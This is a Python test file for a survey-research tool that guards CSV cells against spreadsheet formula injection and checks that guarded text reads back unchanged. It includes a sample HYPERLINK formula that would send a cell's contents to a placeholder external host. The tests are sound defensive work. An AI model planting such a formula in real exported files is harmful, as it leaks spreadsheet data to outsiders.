"""CSV files written for people keep a respondent's "=..." text as text, and read back exactly.

A spreadsheet runs a CSV cell starting with =, +, -, @ (or a tab / carriage return) as a
formula; :mod:`cxresearch.csv_text` marks such cells with an apostrophe and the importers
undo it, so follow-up lists, coder sheets and disagreement files are safe to open and
lose nothing on the way back.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from cxresearch.csv_text import FORMULA_STARTS, guard, read_csv, unguard, write_csv
from cxresearch.qual.codebook import codebook_from_mapping
from cxresearch.qual.normalise import BaseForms
from cxresearch.qual.roundtrip import read_decisions
from cxresearch.qual.sheets import CODE_PREFIX, read_sheet, write_sheets

PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A1,"click")'

# Text that starts like a formula, with an apostrophe, or not at all.
TEXT = st.one_of(
    st.text(max_size=12),
    st.tuples(st.sampled_from([*FORMULA_STARTS, "'", "''"]), st.text(max_size=8)).map("".join),
)


@given(TEXT)
def test_guard_is_undone_exactly_and_never_starts_like_a_formula(text: str) -> None:
    assert unguard(guard(text)) == text
    assert not guard(text).startswith(FORMULA_STARTS)


def read_cells(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    """The file's cells as a spreadsheet would get them (no pandas in between)."""
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.reader(handle))


def test_a_written_file_has_no_formula_cell_and_reads_back_the_same(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "comment": [PAYLOAD, "-2 tähteä", "@user", "'lainaus", "hyvä", None],
            "score": [1, 2, 3, 4, 5, 6],
        }
    )
    path = tmp_path / "list.csv"
    write_csv(frame, path)
    cells = [c for row in read_cells(path)[1:] for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + PAYLOAD in cells and "''lainaus" in cells
    back = read_csv(path)
    assert back["comment"].tolist() == [PAYLOAD, "-2 tähteä", "@user", "'lainaus", "hyvä", ""]
    assert back["score"].tolist() == ["1", "2", "3", "4", "5", "6"]


def test_coder_sheet_and_decisions_round_trip_formula_like_text(tmp_path: Path) -> None:
    book = codebook_from_mapping(
        {"name": "t", "codes": [{"code": "price", "label": {"fi": "Hinta", "en": "Price"}}]},
        forms=BaseForms(),
    )
    texts = pd.Series({"r1": PAYLOAD, "r2": "+358 hinta", "r3": "ok"})
    written = write_sheets(texts, book, ["anna"], tmp_path, sample=3, seed=1, formats=["csv"])
    path = written["anna"][0]
    raw = read_cells(path, encoding="utf-8-sig")
    assert not [c for row in raw[1:] for c in row if c.startswith(FORMULA_STARTS)]
    table = read_csv(path, encoding="utf-8-sig")
    assert dict(zip(table["response_id"], table["comment"], strict=True)) == texts.to_dict()
    table[CODE_PREFIX + "price"] = "x"
    table["note"] = "-tarkista"
    write_csv(table, path, encoding="utf-8-sig")
    sheet = read_sheet(path, book)
    assert sheet.comments == texts.to_dict()
    assert set(sheet.notes.values()) == {"-tarkista"}
    decisions = pd.DataFrame({"response_id": ["-r1"], "code": ["price"], "decision": ["1"]})
    write_csv(decisions, tmp_path / "disagreements.csv")
    assert read_decisions(tmp_path / "disagreements.csv") == {("-r1", "price"): True}
